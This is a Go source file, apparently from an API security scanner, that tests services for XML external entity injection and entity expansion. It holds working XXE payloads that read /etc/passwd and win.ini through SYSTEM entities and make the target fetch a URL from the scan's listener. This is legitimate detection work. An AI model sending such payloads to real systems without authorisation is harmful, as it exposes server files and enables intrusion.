// Copyright The Durward Authors.
// SPDX-License-Identifier: Apache-2.0

package injection

import (
	"context"
	"encoding/xml"
	"fmt"
	"maps"
	"slices"
	"strings"
	"time"

	"durward/probe/check"
	"durward/probe/finding"
)

// entities looks for XML that may declare entities: in operations that take XML,
// and in those that take JSON, as some frameworks read whatever they are sent.
func (t *target) entities(ctx context.Context) {
	if t.op.Body == nil || t.once || t.base.Body == nil && !t.takesXML() {
		return
	}
	for _, root := range t.roots() {
		plain := t.sendXML(ctx, root, "", "")
		if plain == nil || plain.Answer.Status >= 400 {
			continue // XML of that root is not taken
		}
		if t.fileEntity(ctx, root, plain) || t.fetchedEntity(ctx, root) {
			return
		}
		t.ownEntity(ctx, root)
		return
	}
	// A service that wants another document may still resolve entities first.
	if t.takesXML() {
		t.fetchedEntity(ctx, "root")
	}
}

func (t *target) takesXML() bool {
	for _, m := range t.op.Body.Content {
		if strings.Contains(m.Type, "xml") {
			return true
		}
	}
	return false
}

// roots are names that the document's first element may have.
func (t *target) roots() []string {
	out := []string{}
	for _, m := range t.op.Body.Content {
		if m.Schema != nil && m.Schema.Name != "" {
			out = append(out, m.Schema.Name, strings.ToLower(m.Schema.Name[:1])+m.Schema.Name[1:])
		}
	}
	parts := strings.Split(strings.Trim(t.op.Path, "/"), "/")
	last := strings.Trim(parts[len(parts)-1], "{}")
	out = append(out, "root", strings.TrimSuffix(last, "s"))
	if !t.takesXML() {
		return out[:1]
	}
	return out[:min(len(out), 4)]
}

// sendXML sends the call's body as XML with a DOCTYPE; every text becomes value,
// unless that is empty.
func (t *target) sendXML(ctx context.Context, root, doctype, value string) *check.Exchange {
	if t.err != nil || t.left <= 0 {
		return nil
	}
	t.left--
	r, err := t.env.World.Request(ctx, t.base.Clone(), t.as)
	if err != nil {
		return nil
	}
	var b strings.Builder
	b.WriteString(`<?xml version="1.0" encoding="UTF-8"?>` + doctype)
	element(&b, root, t.members(), value, 0)
	kind := "application/xml"
	for _, m := range t.op.Body.Content {
		if strings.Contains(m.Type, "xml") {
			kind = m.Type
		}
	}
	r.Set("Content-Type", kind)
	r.Body = []byte(b.String())
	e, err := t.env.World.Do(ctx, r)
	if err != nil || e == nil || e.Answer == nil {
		if check.Fatal(ctx, err) {
			t.err = err
		}
		return nil
	}
	return e
}

// members are the body's, or those that the schema declares.
func (t *target) members() any {
	if m, ok := t.base.Body.(map[string]any); ok && len(m) > 0 {
		return m
	}
	for _, m := range t.op.Body.Content {
		if m.Schema == nil {
			continue
		}
		out := map[string]any{}
		for _, name := range m.Schema.Order {
			out[name] = "1"
		}
		if len(out) > 0 {
			return out
		}
	}
	return map[string]any{"value": "1"}
}

// element writes a value as an element. With value, every text is that.
func element(b *strings.Builder, name string, v any, value string, depth int) {
	if depth > 10 || !plainName(name) {
		return
	}
	b.WriteString("<" + name + ">")
	switch v := v.(type) {
	case map[string]any:
		for _, member := range slices.Sorted(maps.Keys(v)) {
			element(b, member, v[member], value, depth+1)
		}
	case []any:
		for _, item := range v[:min(len(v), 2)] {
			element(b, "item", item, value, depth+1)
		}
	case string:
		if value != "" {
			b.WriteString(value)
		} else {
			_ = xml.EscapeText(b, []byte(v))
		}
	default:
		_ = xml.EscapeText(b, []byte(fmt.Sprint(v)))
	}
	b.WriteString("</" + name + ">")
}

func plainName(name string) bool {
	for i, r := range name {
		if !(r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z' || r == '_' || i > 0 && (r >= '0' && r <= '9' || r == '-' || r == '.')) {
			return false
		}
	}
	return name != ""
}

// fileEntity declares an entity that is a file of the system.
func (t *target) fileEntity(ctx context.Context, root string, plain *check.Exchange) bool {
	for _, file := range []string{"file:///etc/passwd", "file:///C:/Windows/win.ini"} {
		doctype := fmt.Sprintf(`<!DOCTYPE %s [<!ENTITY e SYSTEM "%s">]>`, root, file)
		var steps []finding.Step
		for range 2 {
			e := t.sendXML(ctx, root, doctype, "&e;")
			if e == nil || fileShown(e.Answer) == "" {
				break
			}
			steps = append(steps, t.env.Step("an entity that is a file", e))
		}
		if len(steps) == 2 && fileShown(plain.Answer) == "" {
			t.report(externalEntity, finding.Certain, "body#", "An entity that the caller's XML declares is read from a file: the answer has the file.", steps...)
			return true
		}
	}
	return false
}

// fetchedEntity declares entities that are to be fetched from the run's own
// listener: one in the text, one of the document type itself.
func (t *target) fetchedEntity(ctx context.Context, root string) bool {
	if t.env.Listener == nil {
		return false
	}
	for _, parameter := range []bool{false, true} {
		u, hit := t.env.Listener.URL()
		doctype, value := fmt.Sprintf(`<!DOCTYPE %s [<!ENTITY e SYSTEM "%s">]>`, root, u), "&e;"
		if parameter {
			doctype, value = fmt.Sprintf(`<!DOCTYPE %s [<!ENTITY %% e SYSTEM "%s"> %%e;]>`, root, u), ""
		}
		e := t.sendXML(ctx, root, doctype, value)
		if e != nil && until(ctx, 200*time.Millisecond, hit) {
			t.report(externalEntity, finding.Certain, "body#", "An entity that the caller's XML declares is fetched: the run's own listener was asked for it.",
				t.env.Step("an entity at the address of the run's own listener", e))
			return true
		}
	}
	return false
}

// ownEntity declares entities of text: two that make up a third. It is no more
// than an indication of what else may be declared.
func (t *target) ownEntity(ctx context.Context, root string) {
	one, two := t.word(), t.word()
	doctype := fmt.Sprintf(`<!DOCTYPE %s [<!ENTITY a "%s"><!ENTITY e "&a;%s">]>`, root, one, two)
	e := t.sendXML(ctx, root, doctype, "&e;")
	if e != nil && strings.Contains(string(e.Answer.Body), one+two) {
		t.report(entityExpansion, finding.Firm, "body#", "Entities that the caller's XML declares are expanded, which lets a small document become a large one.",
			t.env.Step("an entity made of another one", e))
	}
}
